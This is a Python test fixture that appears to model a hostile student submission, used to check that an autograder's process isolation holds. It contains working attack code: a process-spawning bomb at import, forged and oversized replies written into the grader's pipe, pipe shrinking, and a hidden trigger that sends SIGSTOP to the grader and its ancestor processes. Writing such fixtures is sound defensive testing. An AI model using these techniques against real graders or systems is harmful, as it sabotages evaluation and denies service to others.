# A hostile ch17 submission that tries to hang, stop or swamp the grader (tests/test_attacks.py; data).
#
# D5 a fork bomb at its first import (processes marked in argv, in their own sessions); D4, in the first
# four calls of causal_mask, replies too large to take in: a 144 MB mask, a forged frame announcing 2**62
# bytes, a header of deeply nested JSON, a header of two million numbers; D2 in causal_mask_with_offset
# its pipes shrunk to one page, then in a hidden check (causal_mask(2500)) SIGSTOP to every ancestor (the
# warm process, and the grader itself up to the test's grader command if they are visible) and to every
# process of the test's graders it can see.
# Otherwise it answers wrongly (None): its honest part earns 0. One attack per call, the call count kept
# in the box's /tmp (the student processes of one submission share it), so each fresh process goes on
# with the next attack. Only imports, definitions and assignments at the top level (see kitchen_sink.py).
import json
import os
import signal
import struct
import sys

import torch

CFG = json.loads(__CFG_JSON__)
STATE_PATH = "/tmp/.stopper-state-" + CFG["nonce"]


def _bump(key):
    try:
        with open(STATE_PATH) as f:
            state = json.load(f)
    except Exception:
        state = {}
    state[key] = state.get(key, 0) + 1
    try:
        with open(STATE_PATH + ".new", "w") as f:
            json.dump(state, f)
        os.replace(STATE_PATH + ".new", STATE_PATH)
    except Exception as e:
        print(f"state not kept: {e}", flush=True)
    return state[key] - 1


def _cmd(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except Exception:
        return ""


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except Exception:
        return 0


def _grader(pid):
    c = _cmd(pid)
    return CFG["run_tag"] in c and CFG["proc_mark"] not in c


def _targets():
    """The ancestors of this process up to the test's grader command (never beyond it, never pytest),
    and every process descending from one of the test's graders (the class grader's job processes)."""
    found, pid = [], os.getppid()
    while pid > 1 and "pytest" not in _cmd(pid):
        found.append(pid)
        if _grader(pid):
            break
        pid = _ppid(pid)
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    tops = {p for p in pids if _grader(p)}
    for p in pids:
        q, hops = _ppid(p), 0
        while q > 1 and q not in tops and hops < 64:
            q, hops = _ppid(q), hops + 1
        if q in tops and p != os.getpid() and p not in found:
            found.append(p)
    return found


def _child():
    """The student-process side of the wire (grader.isolation.child.Child), found on the call stack."""
    f = sys._getframe()
    while f is not None:
        me = f.f_locals.get("self")
        if me is not None and hasattr(me, "rep_fd") and hasattr(me, "req_fd"):
            return me
        f = f.f_back
    return None


def _bomb():
    n = 0
    for _ in range(CFG["bomb"]):
        try:
            os.posix_spawn("/bin/sleep", [CFG["proc_mark"] + "-bomb", "3217"], {}, setsid=True)
            n += 1
        except OSError:
            break
    print(f"BOMB {n} processes started", flush=True)
    return n


def _forge(head):
    child = _child()
    if child is None:
        return
    os.write(child.rep_fd, head)  # a frame of our own making, then silence
    os.kill(os.getpid(), signal.SIGSTOP)


def _attack():
    step = _bump("calls")
    if step == 0:
        return torch.ones(12000, 12000, dtype=torch.bool)  # 144 MB: over the reply bound
    if step == 1:
        _forge(struct.pack(">Q", 1 << 62))
    if step == 2:
        body = b"[" * 3_000_000 + b"]" * 3_000_000
        _forge(struct.pack(">Q", len(body)) + body)
    if step == 3:
        body = b'{"ok": true, "result": [' + b"0," * 2_000_000 + b'0], "elapsed": 0}'
        _forge(struct.pack(">Q", len(body)) + body + struct.pack(">Q", 0))
    return None


def _shrink_pipes():
    """Both pipes shrunk to one page: a request larger than that must not block the grader (ch17's are
    smaller; the write deadline is what holds for larger ones)."""
    child = _child()
    if child is not None:
        import fcntl

        for fd in (child.req_fd, child.rep_fd):
            try:
                fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
            except OSError:
                pass
    return None


def _stop_everyone():
    targets = _targets()
    print(f"SIGSTOP {targets}", flush=True)
    for pid in targets:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass


def causal_mask(num_tokens):
    if num_tokens == 2500 and type(num_tokens) is int:  # a hidden check: stop the warm process and the grader
        _stop_everyone()
        return None
    return _attack()


def causal_mask_with_offset(num_new, num_cached):
    return _shrink_pipes() if _bump("offset calls") == 0 else None


_IMPORT = _bump("imports")
_BOMBED = _bomb() if _IMPORT == 0 else 0
